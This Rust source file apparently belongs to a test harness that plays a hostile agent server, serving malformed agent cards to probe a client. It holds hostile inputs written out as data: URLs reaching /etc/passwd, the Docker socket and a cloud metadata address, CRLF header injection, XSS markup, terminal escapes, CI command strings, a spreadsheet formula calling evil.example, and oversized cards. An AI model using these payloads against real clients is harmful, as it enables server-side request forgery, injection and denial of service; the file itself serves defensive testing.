//! Cards that list too much, and cards that lead elsewhere.

use serde_json::{Value, json};

use super::attack::Attack;
use super::attack::Place::{Card, Unary};
use super::harm::{Harm, body, changed_for, ok, raw};

/// The agent's card, changed. `{own}` and `{canary}` are host and port.
fn card(change: impl Fn(&mut Value) + Send + Sync + 'static) -> Harm {
    changed_for(move |strike, text| {
        let mut card = serde_json::from_str(&text).unwrap_or_default();
        change(&mut card);
        let port = strike.canary.rsplit(':').next().unwrap_or_default();
        let text = card.to_string().replace("{own}", strike.own).replace("{canary}", strike.canary);
        text.replace("{canary port}", port).into_bytes()
    })
}

/// The agent's card with one more interface.
fn interface(url: &'static str) -> Harm {
    card(move |card| listed(card, "supportedInterfaces", declared(url, "JSONRPC", "1.0")))
}

fn declared(url: &str, binding: &str, version: &str) -> Value {
    json!({"url": url, "protocolBinding": binding, "protocolVersion": version})
}

/// What is told to a card that wants a key.
const KEY: [&str; 2] = ["--api-key", "X-Key=key-0d3c55e1a9"];

/// The agent's card, which wants a key in this place.
fn key_in(location: &'static str, name: &'static str) -> Harm {
    card(move |card| {
        card["securitySchemes"] = json!({"k": {"apiKeySecurityScheme": {"location": location, "name": name}}});
        card["securityRequirements"] = json!([{"schemes": {"k": {"list": []}}}]);
    })
}

/// An interface of the attacker.
const OWN: &str = "http://{own}/rpc";

fn repeat(card: &mut Value, list: &str, times: usize, entry: impl Fn(usize) -> Value) {
    (0..times).for_each(|number| listed(card, list, entry(number)));
}

fn listed(card: &mut Value, list: &str, entry: Value) {
    match card[list].as_array_mut() {
        Some(entries) => entries.push(entry),
        None => card[list] = json!([entry]),
    }
}

/// Only the card is looked at: what it costs to read it, not to call all that it names.
const ONLY: [&str; 2] = ["--only", "card.*"];

/// The attacks of this family.
pub(crate) fn attacks() -> Vec<Attack> {
    [many(), addresses(), forms(), texts()].into_iter().flatten().collect()
}

fn many() -> Vec<Attack> {
    vec![
        Attack::new(
            "5,000 interfaces",
            Card,
            card(|card| {
                repeat(card, "supportedInterfaces", 5_000, |n| declared(&format!("{OWN}/{n}"), "JSONRPC", "1.0"));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "the same interface 5,000 times",
            Card,
            card(|card| {
                repeat(card, "supportedInterfaces", 5_000, |_| declared(OWN, "JSONRPC", "1.0"));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "interfaces of 2,000 versions",
            Card,
            card(|card| {
                repeat(card, "supportedInterfaces", 2_000, |n| declared(OWN, "JSONRPC", &format!("{n}.0")));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "interfaces of 2,000 bindings",
            Card,
            card(|card| {
                repeat(card, "supportedInterfaces", 2_000, |n| declared(OWN, &format!("B{n}"), "1.0"));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "5,000 skills",
            Card,
            card(|card| {
                let words = json!(["fail now", "book it"]);
                let more = |n| json!({"id": n, "name": "n", "description": "d", "tags": ["t"], "examples": words});
                repeat(card, "skills", 5_000, |n| more(format!("s{n}")));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "the same skill 5,000 times",
            Card,
            card(|card| {
                repeat(card, "skills", 5_000, |_| json!({"id": "s", "name": "n", "description": "d", "tags": ["t"]}));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "5,000 extensions, each required",
            Card,
            card(|card| {
                let required = |n| json!({"uri": format!("https://x.example/{n}"), "required": true});
                card["capabilities"]["extensions"] = (0..5_000).map(required).collect();
            }),
        )
        .with(&ONLY),
        Attack::new(
            "5,000 security schemes, each required",
            Card,
            card(|card| {
                for n in 0..5_000 {
                    card["securitySchemes"][format!("s{n}")] = json!({"httpAuthSecurityScheme": {"scheme": "Bearer"}});
                    let required = json!({"schemes": {format!("s{n}"): {"list": []}}});
                    listed(card, "securityRequirements", required);
                }
            }),
        )
        .with(&ONLY),
        Attack::new(
            "5,000 signatures",
            Card,
            card(|card| {
                let protected = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsiLCJ0eXAiOiJKT1NFIn0";
                repeat(card, "signatures", 5_000, |_| json!({"protected": protected, "signature": "AAAA"}));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "50,000 modes",
            Card,
            card(|card| {
                card["defaultInputModes"] = (0..50_000).map(|n| json!(format!("x/{n}"))).collect();
            }),
        )
        .with(&ONLY),
        Attack::new(
            "100,000 tags",
            Card,
            card(|card| {
                card["skills"][0]["tags"] = (0..100_000).map(|n| json!(format!("t{n}"))).collect();
            }),
        )
        .with(&ONLY),
        Attack::new(
            "50,000 members that nobody knows",
            Card,
            card(|card| {
                (0..50_000).for_each(|n| card[format!("x{n}")] = json!(n));
            }),
        )
        .with(&ONLY),
        Attack::new(
            "prompts of 100 KB",
            Card,
            card(|card| {
                let skills = card["skills"].as_array_mut();
                let long = format!("fail {}", "x".repeat(100_000));
                skills.into_iter().flatten().for_each(|skill| skill["examples"] = json!([long]));
            }),
        ),
    ]
}

fn addresses() -> Vec<Attack> {
    let second = |name, url| Attack::new(name, Card, interface(url));
    let grpc = |name, url: &'static str| {
        Attack::new(name, Card, card(move |card| listed(card, "supportedInterfaces", declared(url, "GRPC", "1.0"))))
    };
    let every = |name, member: &'static str, value: &'static str| {
        let change = move |card: &mut Value| {
            let interfaces = card["supportedInterfaces"].as_array_mut();
            interfaces.into_iter().flatten().for_each(|interface| interface[member] = json!(value));
        };
        Attack::new(name, Card, card(change))
    };
    vec![
        second("an interface with a password", "http://user:password@{own}/rpc"),
        second("an interface at another origin", "http://{canary}/rpc").calling_others(),
        second("an interface at port 0", "http://127.0.0.1:0/rpc"),
        second("an interface at port 1", "http://127.0.0.1:1/rpc"),
        second("an interface at port 99999", "http://127.0.0.1:99999/rpc"),
        second("an interface in a file", "file:///etc/passwd"),
        second("an interface that is a script", "javascript:alert(1)"),
        second("an interface without a host", "http://"),
        second("an interface without a scheme", "//{canary}/rpc"),
        second("an interface with a path alone", "/rpc"),
        second("an interface that is empty", ""),
        second("an interface of no address", "http://[::1"),
        second("an interface with a fragment", "http://{own}/rpc#/../{canary}"),
        second("an interface that is the card itself", "http://{own}/.well-known/agent-card.json"),
        second("an interface with control characters", "http://{own}/rpc\u{1b}[2J\r\nX-Injected: 1"),
        second("an interface with a zone", "http://[fe80::1%25eth0]/rpc"),
        second(
            "an interface in circles",
            "http://\u{24db}\u{24de}\u{24d2}\u{24d0}\u{24db}\u{24d7}\u{24de}\u{24e2}\u{24e3}:{canary port}/rpc",
        )
        .calling_others(),
        second("an interface at a broadcast address", "http://255.255.255.255/rpc"),
        grpc("an interface of gRPC at a socket", "unix:/var/run/docker.sock"),
        grpc("an interface of gRPC by a resolver", "dns:///{canary}"),
        grpc("an interface of gRPC that is another's", "{canary}").calling_others(),
        second("an interface that looks like another", "http://\u{430}pple.invalid/rpc"),
        Attack::new(
            "an interface of 100 KB",
            Card,
            card(|card| {
                listed(
                    card,
                    "supportedInterfaces",
                    declared(&format!("http://{{own}}/{}", "x".repeat(100_000)), "JSONRPC", "1.0"),
                );
            }),
        ),
        Attack::new(
            "only interfaces elsewhere",
            Card,
            card(|card| {
                card["supportedInterfaces"] = json!([declared("http://{canary}/rpc", "JSONRPC", "1.0")]);
            }),
        )
        .calling_others(),
        every("a tenant that climbs", "tenant", "../../admin?a=b#c"),
        every("a tenant of two dots", "tenant", ".."),
        every("a tenant that ends the line", "tenant", "a\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1"),
        Attack::new(
            "an extension that ends the line",
            Card,
            card(|card| {
                let uri = "https://x.example/\r\nX-Injected: 1, https://y.example/";
                card["capabilities"]["extensions"] = json!([{"uri": uri, "required": true}]);
            }),
        ),
        Attack::new("a key in the field Host", Card, key_in("header", "Host")).with(&KEY),
        Attack::new("a key in the field Content-Length", Card, key_in("header", "Content-Length")).with(&KEY),
        Attack::new("a key in a field that ends the line", Card, key_in("header", "X\r\nX-Injected")).with(&KEY),
        Attack::new("a key in the query of another", Card, key_in("query", "a&b=c#")).with(&KEY),
        Attack::new(
            "a list of interfaces twice, the first elsewhere",
            Card,
            changed_for(|strike, text| {
                let other = declared(&format!("http://{}/rpc", strike.canary), "JSONRPC", "1.0");
                text.replacen('{', &format!("{{\"supportedInterfaces\":[{other}],"), 1).into_bytes()
            }),
        ),
        Attack::new("a card and another one", Card, changed_for(|_, text| format!("{text}\n{text}").into_bytes())),
        Attack::new(
            "an extended card that leads elsewhere",
            Unary,
            changed_for(|strike, text| {
                let other = declared(&format!("http://{}/rpc", strike.canary), "JSONRPC", "1.0");
                let first = format!("\"supportedInterfaces\":[{other},");
                text.replacen("\"supportedInterfaces\":[", &first, 1).into_bytes()
            }),
        ),
        Attack::new(
            "pictures and documents elsewhere",
            Card,
            card(|card| {
                card["iconUrl"] = json!("http://{canary}/icon.svg");
                card["documentationUrl"] = json!("http://{canary}/");
                card["provider"]["url"] = json!("http://{canary}/");
            }),
        ),
        Attack::new(
            "tokens from elsewhere",
            Card,
            card(|card| {
                let flow = json!({"tokenUrl": "http://{canary}/token", "scopes": {}});
                card["securitySchemes"] = json!({
                    "o": {"openIdConnectSecurityScheme": {"openIdConnectUrl": "http://{canary}/openid"}},
                    "a": {"oauth2SecurityScheme": {"flows": {"clientCredentials": flow}}},
                });
            }),
        ),
        Attack::new(
            "keys from elsewhere",
            Card,
            card(|card| {
                // {"alg":"ES256","kid":"k","typ":"JOSE","jku":"http://169.254.169.254/keys"}
                let protected = concat!(
                    "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsiLCJ0eXAiOiJKT1NFIiwi",
                    "amt1IjoiaHR0cDovLzE2OS4yNTQuMTY5LjI1NC9rZXlzIn0"
                );
                card["signatures"] =
                    json!([{"protected": protected, "signature": "AAAA", "header": {"jku": "http://{canary}/keys"}}]);
            }),
        ),
    ]
}

fn forms() -> Vec<Attack> {
    vec![
        Attack::new("a card in an array", Card, card(|card| *card = json!([card.take()]))),
        Attack::new("a card in a string", Card, card(|card| *card = json!(card.to_string()))),
        Attack::new("a card in a card", Card, card(|card| *card = json!({"agentCard": card.take()}))),
        Attack::new("a card that is a number", Card, body("42")),
        Attack::new("an empty card", Card, body("{}")),
        Attack::new("a card without a byte", Card, body("")),
        Attack::new("a page of a web application", Card, raw(ok("text/html", b"<!doctype html><div id=root></div>"))),
        Attack::new("500 for the card", Card, raw("HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n")),
        Attack::new(
            "401 for the card",
            Card,
            raw("HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer\r\nContent-Length: 0\r\n\r\n"),
        ),
        Attack::new(
            "numbers instead of texts",
            Card,
            card(|card| {
                for key in ["name", "description", "version"] {
                    card[key] = json!(7);
                }
            }),
        ),
        Attack::new(
            "texts instead of lists",
            Card,
            card(|card| {
                for key in ["skills", "defaultInputModes", "supportedInterfaces"] {
                    card[key] = json!("one");
                }
            }),
        ),
        Attack::new("objects of lists", Card, card(|card| card["skills"] = json!([[[[]]]]))),
        Attack::new(
            "another card each time",
            Card,
            changed_for(|strike, text| {
                text.replace("Scripted agent", &format!("Agent {}", strike.number)).into_bytes()
            }),
        ),
    ]
}

fn texts() -> Vec<Attack> {
    let named = |what, name: &'static str| Attack::new(what, Card, card(move |card| card["name"] = json!(name)));
    vec![
        named("a name with a terminal's commands", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m"),
        named("a name that turns the text around", "agent\u{202e}gnp.exe"),
        named("a name of markup", "<img src=x onerror=alert(1)>\"'><script>"),
        named("a name for a build server", "\n::add-mask::secret\n::set-output name=x::y\n##vso[task.setvariable]"),
        named("a name for a spreadsheet", "=HYPERLINK(\"http://evil.example\",\"x\")"),
        named("a name without a letter", "\u{200b}\u{feff}\u{2060}"),
        Attack::new("a name of 1 MB", Card, card(|card| card["name"] = json!("n".repeat(1 << 20)))),
        Attack::new(
            "a version of 100 KB",
            Card,
            card(|card| card["supportedInterfaces"][0]["protocolVersion"] = json!("1.".repeat(50_000))),
        ),
        Attack::new(
            "a binding of 100 KB",
            Card,
            card(|card| card["supportedInterfaces"][0]["protocolBinding"] = json!("J".repeat(100_000))),
        ),
    ]
}
